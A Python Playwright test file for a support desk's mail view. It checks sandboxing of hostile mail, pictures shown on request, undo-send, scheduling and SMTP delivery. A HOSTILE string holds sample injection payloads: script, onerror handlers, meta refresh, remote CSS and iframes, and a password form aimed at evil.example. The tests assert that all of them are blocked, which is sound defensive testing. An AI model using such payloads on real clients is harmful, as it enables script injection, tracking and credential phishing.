"""Mail at the desk in a real browser: letters that can do nothing, and answers that can be taken back."""

from __future__ import annotations

import re

from playwright.sync_api import FilePayload, Route, expect

from aspa.channels.email.sending.tests.peer import Peer, serving
from tests.browser.conftest import Stage, Talk
from tests.browser.mail import arrived
from tests.browser.test_accessibility import check

HOSTILE = """
<script>parent.document.title = "taken"; document.body.textContent = "ran"</script>
<img src="/x" onerror="parent.document.title = 'taken'"><svg onload="parent.document.title = 'taken'"></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><iframe src="https://evil.example/frame"></iframe>
<style>body { background: url(https://evil.example/css.png) } @import "https://evil.example/b.css";</style>
<form action="https://evil.example/form"><input name="password"><button>Go on</button></form>
<table><tr><td><b>Your order</b></td></tr></table><img data-remote-src="https://evil.example/pixel.png" alt="A hat">
"""

REMOTE = '<img data-remote-src="https://evil.example/pixel.png" alt="A hat">'
TOLD = """
import django; django.setup()
from aspa.core.conversations.models import Conversation
from aspa.core.people.models import Identity
from aspa.kit import clock
contact = Conversation.objects.get(pk={conversation}).contact
Identity.objects.create(brand=contact.brand, contact=contact, kind="email", value="going@customer.example", created_at=clock.now())
"""


def test_a_hostile_letter_does_nothing_and_its_pictures_come_when_asked_for(stage: Stage) -> None:
    ben = stage.ben(arrived(stage.server, {"text": "Your order", "html": HOSTILE}))
    asked: list[str] = []

    def count(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=b"")

    ben.page.context.route("https://evil.example/**", count)
    # What the browser refuses it says on the console.
    ben.page.expected_errors += ["Content Security Policy", "Blocked ", "404", "sandboxed"]  # type: ignore[attr-defined]
    ben.page.reload()
    sheet = ben.page.frame_locator(".sheet-mail iframe")
    expect(sheet.get_by_text("Your order")).to_be_visible()
    sheet.get_by_role("button", name="Go on").click()
    ben.page.wait_for_timeout(800)
    assert asked == []
    assert "taken" not in ben.page.title()
    expect(sheet.get_by_text("Your order")).to_be_visible()
    with ben.page.expect_request("https://evil.example/pixel.png"):
        ben.page.get_by_role("button", name="Show pictures", exact=True).click()
    expect(sheet.get_by_alt_text("A hat")).to_have_attribute("src", "https://evil.example/pixel.png")
    ben.page.wait_for_timeout(500)
    # Pictures alone, be they the page's or the style's; no page, style or form was fetched.
    assert all(address.endswith(".png") for address in asked)
    ben.page.get_by_role("button", name="Always show pictures from this sender").click()
    stop = ben.page.get_by_role("button", name="Don’t show them any more")
    expect(stop).to_be_visible()
    ben.page.reload()
    expect(stop).to_be_visible()
    expect(sheet.get_by_alt_text("A hat")).to_have_attribute("src", "https://evil.example/pixel.png")
    stop.click()
    expect(ben.page.get_by_role("button", name="Show pictures", exact=True)).to_be_visible()
    expect(sheet.get_by_alt_text("A hat")).not_to_have_attribute("src", "https://evil.example/pixel.png")
    assert "taken" not in ben.page.title()


def test_a_letter_is_as_high_as_it_is_and_has_its_plain_text(stage: Stage) -> None:
    rows = "".join(f"<tr><td>Row {number}</td></tr>" for number in range(60))
    ben = stage.ben(arrived(stage.server, {"text": "Only words", "html": f"<table>{rows}</table>"}))
    frame = ben.page.locator(".sheet-mail iframe")
    expect(frame).to_have_css("height", "720px")
    # Longer than the place, it begins at its beginning.
    expect(ben.page.frame_locator(".sheet-mail iframe").get_by_text("Row 0", exact=True)).to_be_in_viewport()
    ben.page.get_by_role("button", name="Show the whole mail").click()
    expect(frame).not_to_have_css("height", "720px")
    assert (
        ben.page.frame_locator(".sheet-mail iframe").locator("html").evaluate("e => e.scrollHeight <= e.clientHeight")
    )
    ben.page.get_by_role("button", name="As plain text").click()
    expect(ben.message("Only words")).to_be_visible()
    expect(frame).to_be_hidden()
    ben.page.get_by_role("button", name="As it was sent").click()
    expect(frame).to_be_visible()


def test_a_letter_is_taken_back_and_is_the_draft_again(stage: Stage) -> None:
    ben = stage.ben(arrived(stage.server, {"text": "Where is it?", "cc": [["gran@customer.example", ""]]}))
    expect(ben.page.locator("desk-recipients [data-to]")).to_have_text("Dee Dahl <dee@customer.example>")
    expect(ben.page.locator("desk-recipients .chip")).to_have_text(["gran@customer.example"])
    ben.reply("It left today")
    held = ben.log.locator(".held")
    expect(held).to_contain_text(re.compile(r"Sending in \d+ s"))
    expect(ben.text).to_have_value("")
    ben.text.press("Escape")
    ben.page.keyboard.press("z")
    expect(ben.text).to_have_value("It left today")
    expect(held).to_have_count(0)
    expect(ben.page.locator("desk-recipients .chip")).to_have_text(["gran@customer.example"])


def test_copies_by_keyboard(stage: Stage) -> None:
    ben = stage.ben(arrived(stage.server, {"text": "By keyboard?"}))
    ben.page.get_by_role("button", name="Cc", exact=True).focus()
    keys = ben.page.keyboard
    keys.press("Enter")
    keys.type("gran@customer.example, Boss <boss@villa.example>\nwrong\n")
    chips = ben.page.locator("desk-recipients .chip")
    expect(chips).to_have_text(["gran@customer.example", "boss@villa.example", "wrong"])
    expect(ben.status).to_have_text("wrong isn’t an e-mail address.")
    expect(ben.page.get_by_role("button", name=re.compile("^Send Ctrl"))).to_be_disabled()
    keys.press("Backspace")
    expect(chips).to_have_count(2)
    ben.page.get_by_role("button", name="Remove boss@villa.example").click()
    expect(chips).to_have_text(["gran@customer.example"])
    keys.press("Enter")
    expect(ben.text).to_be_focused()
    expect(ben.page.get_by_role("button", name=re.compile("^Send Ctrl"))).to_be_enabled()


def test_a_letter_for_later_waits_in_its_row_and_others_see_it(stage: Stage) -> None:
    where = arrived(stage.server, {"text": "Tomorrow is fine"})
    ben, ada = stage.ben(where), stage.ada(where)
    ben.write("Good morning")
    ben.page.get_by_role("button", name="Choose a day and a time…").click()
    ben.page.get_by_role("button", name=re.compile("Tomorrow morning")).click()
    expect(ben.log.locator(".held")).to_contain_text("Goes tomorrow at")
    expect(ada.log.locator(".held")).to_contain_text("Ben Berg sends this tomorrow at")
    ben.page.reload()
    ben.log.get_by_role("button", name="Take back").click()
    expect(ben.text).to_have_value("Good morning")
    expect(ada.log.locator(".held")).to_have_count(0)


def test_a_letter_goes_out_and_comes_to_the_customer(stage: Stage) -> None:
    peer = Peer()
    with serving(peer):
        where = arrived(
            stage.server, {"text": "Please answer"}, smtp_host="127.0.0.1", smtp_port=peer.port, smtp_security="none"
        )
        ben = stage.ben(where)
        ben.page.get_by_role("button", name="Re: My parcel").click()
        ben.page.keyboard.type("Your parcel is found\n")
        expect(ben.text).to_be_focused()
        ben.reply("Here is the answer")
        expect(ben.log.locator(".held")).to_have_count(1)
        # Ten seconds to take it back, and then it has gone.
        expect(ben.log.locator(".held")).to_have_count(0)
        expect(ben.message("Here is the answer")).to_be_visible()
        expect(ben.log.locator("article.reply .state")).not_to_contain_text("on its way")
    # The receipt may have gone the same way.
    (mail,) = [one for one in peer.mails if "Here is the answer" in str(one)]
    assert mail["To"] == "Dee Dahl <dee@customer.example>"
    assert mail["Subject"] == "Your parcel is found"


def test_a_chat_goes_on_by_mail(stage: Stage, talk: Talk) -> None:
    _dee, ben = talk("Going soon")
    stage.server.run(TOLD.format(conversation=stage.conversation_of("Going soon")))
    arrived(stage.server, {"text": "Makes the inbox"})
    ben.page.reload()
    ben.page.get_by_role("button", name=re.compile("^Chat, to")).click()
    ben.page.get_by_role("button", name=re.compile("^E-mail Mail")).click()
    expect(ben.page.locator("desk-recipients [data-to]")).to_contain_text("going@customer.example")
    ben.reply("By mail then")
    expect(ben.log.locator(".held")).to_contain_text("E-mail")
    ben.log.get_by_role("button", name="Undo").click()
    expect(ben.text).to_have_value("By mail then")
    expect(ben.page.get_by_role("button", name=re.compile("^E-mail, to"))).to_be_visible()


def test_a_new_letter_by_keyboard(stage: Stage) -> None:
    arrived(stage.server, {"text": "Makes the inbox"})
    ben = stage.ben("/desk/?view=all")
    expect(ben.list).to_be_visible()
    ben.page.keyboard.press("c")
    dialog = ben.page.get_by_role("dialog")
    expect(dialog.get_by_label("To", exact=True)).to_be_focused()
    ben.page.keyboard.type("fia@customer.example")
    dialog.get_by_label("Subject").fill("Your hat")
    dialog.get_by_label("Letter").fill("It is ready.")
    dialog.get_by_label("Add a file").set_input_files([text_file("receipt.txt"), text_file("draft.txt")])
    dialog.get_by_role("listitem").filter(has_text="draft.txt").get_by_role("button", name="Remove").click()
    dialog.get_by_role("button", name="Send").click()
    expect(ben.message("It is ready.")).to_be_visible()
    expect(ben.head).to_contain_text("Your hat")
    ben.text.press("Escape")
    ben.page.keyboard.press("z")
    expect(ben.text).to_have_value("It is ready.")
    expect(ben.page.locator("desk-composer .added li")).to_have_text(["receipt.txt"])


def text_file(name: str) -> FilePayload:
    return {"name": name, "mimeType": "text/plain", "buffer": b"words"}


def test_mail_on_a_phone_is_as_wide_as_the_phone(stage: Stage) -> None:
    where = arrived(
        stage.server,
        {"text": "Wide", "html": "<table width=900><tr><td><b>Wide</b></td></tr></table>", "cc": [["g@x.example", ""]]},
    )
    ben = stage.ben(where, viewport={"width": 390, "height": 844})
    expect(ben.page.frame_locator(".sheet-mail iframe").get_by_text("Wide")).to_be_visible()
    assert ben.page.evaluate("document.documentElement.scrollWidth") <= 390
    for part in (".sheet-mail", "desk-recipients", ".comp"):
        box = ben.page.locator(part).bounding_box()
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390, part


def test_nothing_is_wrong_with_letters_for_those_who_hear_the_screen(stage: Stage) -> None:
    ben = stage.ben(
        arrived(
            stage.server,
            {"text": "Plain", "verdict": "fail", "rest": "Quoted"},
            {"text": "Rich", "html": "<h1>Rich</h1>" + REMOTE, "cc": [["gran@customer.example", ""]]},
        )
    )
    ben.log.locator(".letter-head summary").first.click()
    ben.log.locator(".rest summary").first.click()
    expect(ben.log.get_by_text("Quoted", exact=True)).to_be_visible()
    check(ben.page, "letters")
    ben.reply("An answer")
    expect(ben.log.locator(".held")).to_be_visible()
    check(ben.page, "a held letter")
    ben.page.get_by_role("button", name="Choose a day and a time…").click()
    expect(ben.page.get_by_role("button", name=re.compile("Tomorrow morning"))).to_be_visible()
    check(ben.page, "when to send")
